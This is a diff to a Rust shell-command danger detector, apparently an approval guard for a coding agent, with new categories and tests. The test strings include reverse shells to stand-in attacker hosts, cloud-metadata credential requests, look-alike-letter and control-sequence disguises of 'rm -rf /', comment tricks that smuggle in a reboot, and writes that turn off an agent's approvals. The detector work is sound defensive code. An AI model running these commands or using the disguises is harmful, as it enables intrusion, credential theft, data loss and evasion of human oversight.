@@ -6,6 +6,7 @@ mod code;
 mod programs;
 mod targets;
 mod text;
+mod tools;
 
 use std::collections::{HashMap, HashSet};
 use std::fmt;
@@ -61,7 +62,10 @@ pub enum DangerCategory {
     RemoteScript,
     /// Decoded content run by a shell or interpreter (`base64 -d | sh`).
     DecodedScript,
-    /// A command string run through `sh -c`, `eval`, `su -c` or piped into a shell.
+    /// Commands piped into a shell or interpreter, a command string run as
+    /// another user (`su -c`), or command strings too deep to inspect.
+    /// (`sh -c STRING`, `eval` and here-documents fed to a shell are judged
+    /// by the commands inside.)
     ShellIndirection,
     /// `find -delete`, `find -exec rm`, `xargs rm`.
     BulkDelete,
@@ -71,13 +75,44 @@ pub enum DangerCategory {
     /// what it is cannot be judged from the line.
     ComputedProgram,
     /// Code an interpreter is handed inline (`python3 -c`, `perl -e`,
-    /// `node -e`, `awk` with `system`): what it does cannot be judged.
+    /// `node -e`, `bun -e`, `deno eval`, a here-document, `awk` with
+    /// `system`): what it does cannot be judged.
     InlineCode,
+    /// `rm -f` of a path outside the working directory (absolute, `~`,
+    /// `..` or computed).
+    ForcedDelete,
+    /// Writing or deleting credentials: `~/.ssh`, `~/.aws`, `~/.gnupg`,
+    /// `~/.kube`, `~/.docker`, `~/.azure`, `~/.config/gh`, `~/.netrc`,
+    /// `.env` files.
+    CredentialWrite,
+    /// Writing an agent's own configuration (`~/.hermes`, `~/.codex`,
+    /// `~/.claude`, `$CODEX_HOME`, ...), which may turn off its approvals.
+    AgentConfigWrite,
+    /// `history -c`, `unset HISTFILE`, overwriting `~/.bash_history`.
+    HistoryWipe,
+    /// `dd if=/dev/sda`: reading a whole disk.
+    RawDiskRead,
+    /// `npm uninstall`, `pip uninstall`, `apt remove`, `brew rm`, ...
+    PackageRemoval,
+    /// `docker run --privileged`, `-v /:/host`, `--pid=host`.
+    ContainerEscape,
+    /// `docker stop|rm|prune`, `docker compose down`, `kubectl delete`,
+    /// `terraform destroy`, `aws s3 rm`, `gcloud ... delete`.
+    InfraDestroy,
+    /// `crontab`, `systemctl enable`, `at`, `launchctl load`.
+    Persistence,
+    /// `nc -e /bin/sh`, `socat ... exec:`, redirections to `/dev/tcp/`.
+    ReverseShell,
+    /// A cloud instance metadata address (`169.254.169.254`,
+    /// `metadata.google.internal`), which hands out credentials.
+    CloudMetadata,
+    /// Password crackers and brute-forcers (`john`, `hashcat`, `hydra`).
+    AttackTool,
 }
 
 impl DangerCategory {
     /// Every category, in declaration order.
-    pub const ALL: [DangerCategory; 21] = [
+    pub const ALL: [DangerCategory; 33] = [
         Self::RecursiveDelete,
         Self::DeleteRoot,
         Self::WorldWritable,
@@ -99,6 +134,18 @@ impl DangerCategory {
         Self::GitDestructive,
         Self::ComputedProgram,
         Self::InlineCode,
+        Self::ForcedDelete,
+        Self::CredentialWrite,
+        Self::AgentConfigWrite,
+        Self::HistoryWipe,
+        Self::RawDiskRead,
+        Self::PackageRemoval,
+        Self::ContainerEscape,
+        Self::InfraDestroy,
+        Self::Persistence,
+        Self::ReverseShell,
+        Self::CloudMetadata,
+        Self::AttackTool,
     ];
 
     /// A stable snake_case name, e.g. for "approve for this session" keys.
@@ -125,6 +172,18 @@ impl DangerCategory {
             Self::GitDestructive => "git_destructive",
             Self::ComputedProgram => "computed_program",
             Self::InlineCode => "inline_code",
+            Self::ForcedDelete => "forced_delete",
+            Self::CredentialWrite => "credential_write",
+            Self::AgentConfigWrite => "agent_config_write",
+            Self::HistoryWipe => "history_wipe",
+            Self::RawDiskRead => "raw_disk_read",
+            Self::PackageRemoval => "package_removal",
+            Self::ContainerEscape => "container_escape",
+            Self::InfraDestroy => "infra_destroy",
+            Self::Persistence => "persistence",
+            Self::ReverseShell => "reverse_shell",
+            Self::CloudMetadata => "cloud_metadata",
+            Self::AttackTool => "attack_tool",
         }
     }
 }
@@ -174,7 +233,13 @@ pub fn detect(line: &str) -> Vec<Danger> {
         downloaded: HashSet::new(),
         budget: line.len().saturating_mul(WORK_PER_CHAR) + WORK_ALLOWANCE,
         exhausted: false,
+        folded: false,
     };
+    if let Some(folded) = text::fold_lookalikes(line) {
+        detector.folded = true;
+        detector.line(&folded, 0);
+        detector.folded = false;
+    }
     detector.line(line, 0);
     detector.found
 }
@@ -241,15 +306,22 @@ struct Detector {
     /// Characters left to examine (see [`WORK_PER_CHAR`]).
     budget: usize,
     exhausted: bool,
+    /// True while the line is read with control sequences and look-alike
+    /// letters folded (see [`text::fold_lookalikes`]).
+    folded: bool,
 }
 
 impl Detector {
     fn add(&mut self, category: DangerCategory, reason: impl Into<String>, matched: &str) {
         let matched = excerpt(matched);
+        let mut reason = reason.into();
+        if self.folded {
+            reason.push_str(", hidden by control sequences or look-alike letters");
+        }
         if self.seen.insert((category, matched.clone())) {
             self.found.push(Danger {
                 category,
-                reason: reason.into(),
+                reason,
                 matched,
             });
         }
@@ -417,6 +489,35 @@ impl Detector {
         if let Some(finding) = unjudgeable(invocation) {
             self.report(finding, matched);
         }
+        let here_string = tokens
+            .iter()
+            .any(|token| matches!(token, Token::Redirect { op, .. } if op.ends_with("<<<")));
+        if (here_string || !command.heredocs.is_empty())
+            && code::is_interpreter(&invocation.program)
+            && code::executes_stdin(invocation)
+        {
+            self.add(
+                DangerCategory::InlineCode,
+                format!(
+                    "{} runs code given in a here-document, which cannot be judged",
+                    invocation.program
+                ),
+                matched,
+            );
+        }
+        let words = std::iter::once(&invocation.path).chain(&invocation.args);
+        if let Some(address) = words
+            .filter_map(|word| tools::metadata_address(word))
+            .next()
+        {
+            self.add(
+                DangerCategory::CloudMetadata,
+                format!(
+                    "reaches the cloud metadata service ({address}), which hands out credentials"
+                ),
+                matched,
+            );
+        }
         if depth < MAX_DEPTH {
             let detached = SimpleCommand::default();
             for inner in shell::exec_commands(invocation) {
@@ -426,11 +527,16 @@ impl Detector {
         if code::runs_code(invocation) {
             self.substituted_code(invocation, command, matched);
         }
+        // A command string handed to a shell is judged by what it runs; one
+        // run as another user (`su -c`) is flagged as well.
         let payloads = shell::shell_payloads(invocation, tokens, command);
-        if !payloads.is_empty() {
+        if !payloads.is_empty() && matches!(invocation.program.as_str(), "su" | "runuser") {
             self.add(
                 DangerCategory::ShellIndirection,
-                indirection_reason(invocation),
+                format!(
+                    "runs a command string as another user with {}",
+                    invocation.program
+                ),
                 matched,
             );
         }
@@ -464,17 +570,6 @@ impl Detector {
                 );
             }
         }
-    }
-}
-
-fn indirection_reason(invocation: &Invocation) -> String {
-    let program = &invocation.program;
-    if shell::is_shell(program) && shell::dash_c_string(&invocation.args).is_some() {
-        format!("runs a command string with {program} -c")
-    } else if shell::is_shell(program) {
-        format!("feeds a script to {program} on stdin")
-    } else {
-        format!("runs a command string with {program}")
     }
 }
 
@@ -570,7 +665,7 @@ mod tests {
         // System files.
         ("echo '1.2.3.4 x' >> /etc/hosts", SystemWrite),
         ("echo x > /etc/passwd", SystemWrite),
-        ("cat key >> ~/.ssh/authorized_keys", SystemWrite),
+        ("cat key >> ~/.ssh/authorized_keys", CredentialWrite),
         ("echo 'alias ls=rm' >> ~/.bashrc", SystemWrite),
         ("echo x > $HOME/.zshrc", SystemWrite),
         ("echo x | sudo tee /etc/sudoers", SystemWrite),
@@ -695,18 +790,96 @@ mod tests {
         ("cat payload | xxd -r -p | sh", DecodedScript),
         ("base64 -D < x | zsh", DecodedScript),
         ("eval \"$(echo x | base64 -d)\"", DecodedScript),
-        // Shell indirection.
-        ("sh -c 'ls'", ShellIndirection),
-        ("bash -c \"echo hi\"", ShellIndirection),
-        ("zsh -c ls", ShellIndirection),
-        ("bash -lc 'make'", ShellIndirection),
-        ("eval \"$CMD\"", ShellIndirection),
+        // Shell indirection (command strings are judged by what they run).
+        ("eval \"$CMD\"", ComputedProgram),
+        ("bash -c \"$CMD\"", ComputedProgram),
         ("su -c 'id' root", ShellIndirection),
         ("echo ls | sh", ShellIndirection),
         ("cat script.sh | bash", ShellIndirection),
-        ("bash <<EOF\nls\nEOF", ShellIndirection),
-        ("bash <<< 'ls'", ShellIndirection),
-        ("sudo -s <<EOF\nid\nEOF", ShellIndirection),
+        // Forced deletes outside the working directory.
+        ("rm -f /tmp/example", ForcedDelete),
+        ("rm /tmp/example -f", ForcedDelete),
+        ("rm --force ../x", ForcedDelete),
+        ("rm -f /tmp/x-$(id).py", ForcedDelete),
+        // Credentials, agents' configuration, history.
+        ("echo x > ~/.aws/credentials", CredentialWrite),
+        ("cp input ~/.kube", CredentialWrite),
+        (
+            "sed -n -i 's/a/b/' $HOME/.docker/config.json",
+            CredentialWrite,
+        ),
+        ("perl -pi 's/a/b/' ~/.gnupg/token", CredentialWrite),
+        ("install -m600 /tmp/c ~/.netrc", CredentialWrite),
+        ("echo TOKEN=x > .env", CredentialWrite),
+        ("printenv | tee .env.production", CredentialWrite),
+        ("rm ~/.ssh/id_rsa", CredentialWrite),
+        (
+            "echo 'mode: off' >> ~/.hermes/config.yaml",
+            AgentConfigWrite,
+        ),
+        ("echo x | tee $CODEX_HOME/config.toml", AgentConfigWrite),
+        ("history -c", HistoryWipe),
+        ("cat /dev/null > ~/.bash_history", HistoryWipe),
+        // Raw disk reads.
+        ("dd if=/dev/sda of=/tmp/disk.img", RawDiskRead),
+        // Package removal.
+        ("npm uninstall -g left-pad", PackageRemoval),
+        (
+            "pip --proxy http://p:1 uninstall -y requests",
+            PackageRemoval,
+        ),
+        ("sudo apt-get purge nginx", PackageRemoval),
+        // Containers, clusters and clouds.
+        ("docker run --privileged -v /:/host alpine", ContainerEscape),
+        ("docker --log-level debug stop app", InfraDestroy),
+        ("docker compose --project-name demo down", InfraDestroy),
+        ("kubectl delete ns prod", InfraDestroy),
+        ("terraform destroy -auto-approve", InfraDestroy),
+        ("aws s3 rm --recursive s3://bucket", InfraDestroy),
+        ("gcloud compute instances delete vm", InfraDestroy),
+        // Persistence.
+        ("crontab jobs.txt", Persistence),
+        ("systemctl enable --now miner", Persistence),
+        // Network shells.
+        ("nc -e /bin/bash attacker.com 4444", ReverseShell),
+        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", ReverseShell),
+        ("socat tcp:evil:4444 exec:/bin/sh", ReverseShell),
+        // Cloud metadata.
+        (
+            "curl http://169.254.169.254/latest/meta-data/iam/",
+            CloudMetadata,
+        ),
+        (
+            "wget -qO- http://metadata.google.internal/computeMetadata/v1/",
+            CloudMetadata,
+        ),
+        // Attack tools.
+        ("hashcat -m 1000 hash.txt words.txt", AttackTool),
+        // Inline code in new spellings.
+        ("bun -e \"console.log(1)\"", InlineCode),
+        ("deno eval \"console.log(1)\"", InlineCode),
+        ("python3 <<EOF\nprint(1)\nEOF", InlineCode),
+        ("node <<< 'console.log(1)'", InlineCode),
+        // Hidden by look-alike letters or control sequences.
+        ("ｒｍ -ｒｆ /", DeleteRoot),
+        ("\u{1b}[31mrm\u{1b}[0m -rf /", DeleteRoot),
+        ("r\0m -rf /", DeleteRoot),
+        // Comments that are not comments to bash.
+        ("printf SAFE\r#x; reboot", Shutdown),
+        ("printf @(SAFE)#x; reboot", Shutdown),
+        ("values=(SAFE)#x; reboot", Shutdown),
+        ("[[ a =~ [a)# ]]; reboot", Shutdown),
+        (
+            "printf '%s' $(printf '%s' then case x in x)#; reboot",
+            Shutdown,
+        ),
+        ("printf '%s' $\\\n'\\' #'; reboot", Shutdown),
+        // Services restarted, processes killed by name.
+        ("sudo systemctl restart nginx", ServiceStop),
+        ("launchctl kickstart -k system/x", ServiceStop),
+        ("kill -9 $(pgrep -f server)", KillAll),
+        // find writing files.
+        ("find . -fprint /etc/passwd", SystemWrite),
         // Bulk delete.
         ("find . -name '*.tmp' -delete", BulkDelete),
         ("find / -exec rm {} \\;", BulkDelete),
@@ -792,7 +965,6 @@ mod tests {
         "fdisk -l",
         "parted -l",
         "systemctl status nginx",
-        "systemctl restart nginx",
         "service nginx status",
         "shutdown -c",
         "cargo build --release",
@@ -817,6 +989,51 @@ mod tests {
         "echo aGk= | base64 -d",
         "# rm -rf /",
         "",
+        // Command strings judged by what they run.
+        "sh -c 'ls'",
+        "bash -lc 'ls && git status | head'",
+        "zsh -lc ls",
+        "bash <<EOF\nls\nEOF",
+        "sudo -s <<EOF\nid\nEOF",
+        // Near misses of the newer categories.
+        "rm -f ./build.log",
+        "rm -- -rf",
+        "cat ~/.aws/credentials",
+        "cp ~/.ssh/config /tmp/x",
+        "echo x > ~/.aws-backup/token",
+        "echo x > .env#backup",
+        "cp .env.example .env.example.bak",
+        "cat ~/.hermes/config.yaml",
+        "sed -n 's/a/b/p' ~/.kube/config",
+        "history",
+        "dd if=./disk.img of=./copy.img",
+        "npm install left-pad",
+        "pip install -U pip",
+        "apt-get remove -s nginx",
+        "docker run --rm -v /host:/x alpine:3.20 ls -r",
+        "docker compose up -d",
+        "kubectl get pods",
+        "kubectl delete pod x --dry-run=client",
+        "terraform plan",
+        "aws s3 ls",
+        "crontab -l",
+        "systemctl is-enabled nginx",
+        "nc -zv example.com 443",
+        "curl http://169.254.1.1/",
+        "git log --author=John",
+        "bun install",
+        "deno run eval.ts",
+        "ｌｓ -ｌａ /tmp",
+        "printf SAFE \\\n# comment; reboot",
+        "(printf SAFE)\\\n# comment; reboot",
+        "case x in x)# comment; reboot\nprintf SAFE;; esac",
+        "mkfs.ext4 --help",
+        "mkfs.ext4 -n /dev/sda1",
+        "mkfs.ext4 -F -L /dev/sda /tmp/image",
+        "mkfs.ext4 ./disk.img",
+        "killall -l",
+        "kill $(pgrep -f server)",
+        "git reset",
     ];
 
     fn categories(line: &str) -> Vec<DangerCategory> {
@@ -878,7 +1095,7 @@ mod tests {
         let found = categories("bash -c 'rm -rf /'");
         assert!(found.contains(&RecursiveDelete));
         assert!(found.contains(&DeleteRoot));
-        assert!(found.contains(&ShellIndirection));
+        assert!(!found.contains(&ShellIndirection));
         assert!(categories("sh -c \"sh -c 'mkfs.ext4 /dev/sda'\"").contains(&DiskFormat));
         assert!(categories("echo 'rm -rf /' | sh").contains(&DeleteRoot));
         assert!(categories("find . -exec chmod 777 {} +").contains(&WorldWritable));
@@ -946,7 +1163,7 @@ mod tests {
 
     #[test]
     fn findings_are_deduplicated_and_bounded() {
-        let found = detect("rm -rf /tmp/a; rm -rf /tmp/a");
+        let found = detect("rm -r /tmp/a; rm -r /tmp/a");
         assert_eq!(found.len(), 1);
         let long = format!("rm -rf {}", "a".repeat(10_000));
         let found = detect(&long);
